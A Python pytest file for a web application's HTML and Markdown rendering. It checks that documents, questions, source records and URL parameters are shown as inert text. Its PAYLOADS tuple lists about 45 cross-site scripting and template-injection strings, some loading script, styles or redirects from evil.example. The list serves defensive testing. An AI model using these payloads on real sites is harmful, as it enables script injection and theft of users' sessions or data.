"""Stored scripts: whatever documents, people and sources are called, pages show it as text."""

from __future__ import annotations

from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from lxml import html

from adapters.browser.rendering import markdown
from bot.ports import KnownSource, SourceReading, Trial
from tests.adapters.browser.house import House, open_house
from tests.adapters.fake_platform import utterance
from tests.kit.fakes import evidence

# After the OWASP filter evasion cheat sheet and PortSwigger's list, and what Markdown could carry.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=csrf>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<div hx-get=//evil.example hx-trigger=load>x</div>",
    "<div data-hx-on:click='alert(1)'>x</div>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    '"><script>alert(1)</script>',
    "--><script>alert(1)</script><!--",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "{{ 7*7 }}{% import os %}",
    "${7*7}<%= 7*7 %>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt&colon;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](https://evil.example/)",
    "![x](https://evil.example/pixel.png)",
    '[x]: javascript:alert(1) "title"\n[x]',
    "<javascript:alert(1)> <https://evil.example/>",
    "`<img src=x onerror=alert(1)>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>\u0000",
    "<\u0000script>alert(1)</script>",
)
"""Each stands where anybody who writes a document, or asks something, can put it."""

_TAGS = set(
    "html head body meta title link script noscript header nav main div span form input button "
    "label select option textarea fieldset legend h1 h2 h3 h4 h5 h6 p a ol ul li dl dt dd table "
    "thead tbody tr th td article section strong em s code pre blockquote hr br details summary "
    "time".split()
)
_ATTRIBUTES = set(
    "lang charset name content rel href src defer class id tabindex action method type value for "
    "aria-label aria-current aria-live aria-busy role title required maxlength autofocus selected "
    "checked enctype rows inputmode hx-get hx-post hx-target hx-swap hx-trigger data-label scope "
    "start datetime http-equiv aria-describedby aria-invalid".split()
)
"""What our templates and our Markdown are made of. Nothing else may stand in a page."""


def assert_tame(page: str, live: frozenset[str] = frozenset()) -> None:
    """Nothing in it runs, loads or leads anywhere but to our own pages and ``live``."""
    tree = html.fromstring(page)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            raise AssertionError(f"a comment: {html.tostring(element)!r}")
        assert element.tag in _TAGS, html.tostring(element)
        for name, value in element.attrib.items():
            assert name in _ATTRIBUTES, html.tostring(element)
            if name in ("href", "src", "action", "hx-get", "hx-post"):
                is_ours = value.startswith(("/", "#")) and not value.startswith("//")
                assert is_ours or value in live, value
    scripts = [each.get("src") for each in tree.iter("script")]
    assert set(scripts) <= {"/static/htmx.min.js", "/static/console.js"} and len(scripts) <= 2
    assert all(not (each.text or "").strip() for each in tree.iter("script", "style"))
    for each in tree.iter("meta"):
        assert "evil" not in each.get("content", "")


def shows(page: str, text: str) -> bool:
    """Whether somebody reads it there, marks and blanks apart."""
    plain = "".join(html.fromstring(page).itertext())
    return _letters(text) in _letters(plain)


def _letters(text: str) -> str:
    return "".join(c for c in text.lower() if c.isalnum())


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_of_anybody_is_tame(payload: str) -> None:
    for text in (payload, f"# {payload}", f"- {payload}", f"> {payload}", f"x {payload} y"):
        assert_tame(f"<div>{markdown(text)}</div>")


def test_only_what_may_be_live_is() -> None:
    text = "[a](https://a.example/) [b](https://b.example/) <https://a.example/>"
    made = str(markdown(text, {"https://a.example/"}))
    assert made.count("<a ") == 2 and "b.example" not in made
    assert 'rel="noopener noreferrer nofollow"' in made


def test_the_check_itself_notices() -> None:
    beyond_lxml = {"<body onload=alert(1)>", '" onmouseover="alert(1)'}  # it drops what is wrong
    for payload in set(PAYLOADS[:24]) - beyond_lxml:
        with pytest.raises(AssertionError):
            assert_tame(f"<div>{payload}</div>")


@pytest.fixture
async def house(tmp_path: Path) -> AsyncIterator[House]:
    async with open_house(tmp_path) as house:
        yield house


async def test_documents_cannot_put_anything_into_answers(house: House) -> None:
    live = frozenset({"https://intra.example/handbook"})
    for n, payload in enumerate(PAYLOADS):
        found = evidence(
            f"Salary {n} is paid.\n\n{payload}",
            title=f"Pay {payload}",
            headings=(payload,),
            document=payload,
            url=payload if n % 2 else "https://intra.example/handbook",
        )
        house.bench.knows(f"salary{n}x", found)
    ida = await house.signed_in("ida")
    path = (await ida.begin()).url.path
    for n in range(len(PAYLOADS)):
        await ida.post(path, {"question": f"When is salary{n}x paid?"})
        await house.bench.settled()
    page = await ida.get(path)
    assert_tame(page.text, live)
    assert shows(page.text, f"Pay {PAYLOADS[0]}")
    conversation = path.removeprefix("/ask/")
    for row in await house.bench.rows("trace"):
        pressed = {"action": "why", "subject": row["id"], "conversation": conversation}
        assert_tame((await ida.post("/press", pressed)).text, live)
        assert_tame((await ida.get(f"/answers/{row['id']}")).text, live)


async def test_questions_and_written_answers_cannot_put_anything_into_pages(house: House) -> None:
    ida = await house.signed_in("ida")
    path = (await ida.begin()).url.path
    for n, payload in enumerate(PAYLOADS):
        await ida.post(path, {"question": f"Who knows subject {n}: {payload}"})
        said = utterance(f"Is anybody there for {n}? {payload}")
        await house.bench.dispatcher.hear(house.office, said)
        await house.bench.settled()
    for n, payload in enumerate(PAYLOADS[:12]):
        await house.bench.knowledge.curated.add(
            f"{payload} {n}", f"{payload}\n\nYes.", access=frozenset({"public"}), owner=payload
        )
    assert shows((await ida.get(path)).text, PAYLOADS[0])
    pages = [path, "/gaps", "/answers", "/answers?words=%3Cscript%3E", "/health"]
    for each in pages:
        assert_tame((await ida.get(each)).text)
    (gap, *_) = await house.bench.knowledge.gaps.open(5)
    opened = await ida.post("/press", {"action": "answer", "subject": gap.id})
    assert_tame(opened.text)


async def test_sources_cannot_put_anything_into_pages(house: House) -> None:
    sources = house.bench.world.sources
    ida = await house.signed_in("ida")
    at = datetime(2026, 3, 2, tzinfo=UTC)
    for n, payload in enumerate(PAYLOADS):
        sources.known.append(
            KnownSource(
                f"s{n}", payload, 1, False, payload, 1, frozenset({payload}), False, payload
            )
        )
        reasons: dict[str, Any] = {payload: payload}
        sources.past[f"s{n}"] = house.bench.world.releases.readings[f"s{n}"] = [
            SourceReading(at, at, 1, skipped=reasons, fault=payload, quarantined=reasons,
                          waits=(payload,), state="waiting", number=n + 1)
        ]  # fmt: skip
        async with house.bench.audit.of(payload, payload[:40], f"s{n}", payload):
            pass
        address = f"https://a{n}.example/"
        sources.trials[address] = Trial(
            payload, 1, 1, False, ((payload, payload),), reasons, (payload,), payload
        )
        tried = await ida.post("/sources/new", {"address": address, "readers": "public"})
        assert_tame((await ida.waited(tried)).text)
        assert_tame((await ida.get(f"/sources/s{n}")).text)
    for path in ("/sources", "/runs", "/health"):
        page = (await ida.get(path)).text
        assert_tame(page)
        assert shows(page, PAYLOADS[0])


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_what_stands_in_an_address_comes_back_as_text(payload: str, pages: Any) -> None:
    door, ida = pages
    for page in (
        await door.get("/enter", params={"pass": payload}),
        await ida.get("/answers", params={"words": payload, "tier": payload}),
        await ida.get("/sources/new", params={"kind": payload}),
        await ida.get("/runs", params={"source": payload}),
        await ida.post("/sources/new", {"address": payload, "readers": payload}),
        await ida.post("/press", {"action": payload, "back": payload}),
        await ida.post("/do/kb/pause", {"source": payload, "back": payload}),
    ):
        assert_tame(page.text)
        assert urlsplit(str(page.url)).netloc == "127.0.0.1:8080"


@pytest.fixture
async def pages(house: House) -> Any:
    return await house.tab(), await house.signed_in("ida")


async def test_new_sources_are_named_as_typed_on_the_way_back(house: House) -> None:
    await house.bench.world.sources.add("https://a.example/<b>")
    ida = await house.signed_in("ida")
    assert_tame((await ida.get("/sources")).text)
